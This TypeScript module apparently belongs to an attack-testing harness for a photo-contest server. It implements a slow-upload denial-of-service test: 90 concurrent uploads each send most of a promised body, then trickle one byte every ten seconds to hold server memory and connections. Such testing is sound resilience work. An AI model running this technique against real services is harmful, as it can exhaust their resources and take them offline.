// One player's uploads that send most of a photo at once and then one byte every ten seconds.
import { API_PATH, apiRoutes } from '#shared/paths.ts';
import { SQUARES } from '../contest-calls.ts';
import { type Attack, type AttackTarget, createTally, pause } from './attack.ts';
import { connect, FORM_TYPE, formStart, headOf, parseAnswer } from './send.ts';

const UPLOADS = 90;
const PROMISED_BYTES = 1_900_000;
/** What a server keeps in memory per upload while it waits for the rest. */
const FIRST_BYTES = 1_800_000;
const BYTE_INTERVAL = 10_000;

/** Sends one byte at a time until answered or cut. @returns the response, or `cut` or `open` */
async function upload(target: AttackTarget, position: number, signal: AbortSignal) {
  const socket = connect(target);
  let text = '';
  socket.setEncoding('latin1').on('data', (more) => {
    text += more;
    if (parseAnswer(text)) socket.end();
  });
  const ended = new AbortController();
  socket.once('close', () => ended.abort());
  const over = AbortSignal.any([signal, ended.signal]);
  const headers = {
    Authorization: `Bearer ${target.player}`,
    'Content-Type': FORM_TYPE,
    'Content-Length': PROMISED_BYTES,
  };
  socket.write(headOf('POST', API_PATH + apiRoutes.submissions, headers));
  socket.write(formStart('photo', 'photo.jpg', { position: String(position) }));
  socket.write(Buffer.alloc(FIRST_BYTES, 'x'));
  while (!over.aborted) {
    await pause(BYTE_INTERVAL, over);
    if (!over.aborted) socket.write('x');
  }
  const isOpen = !ended.signal.aborted;
  socket.destroy();
  const none = { status: isOpen ? ('open' as const) : ('cut' as const) };
  return parseAnswer(text) ?? none;
}

export const slowUploads: Attack = async (target) => {
  return async (signal) => {
    const tally = createTally();
    const answers = await Promise.all(
      Array.from({ length: UPLOADS }, (_, i) =>
        upload(target, SQUARES[i % SQUARES.length] ?? 0, signal),
      ),
    );
    for (const answer of answers) tally.add(answer);
    return { answers: tally.answers };
  };
};
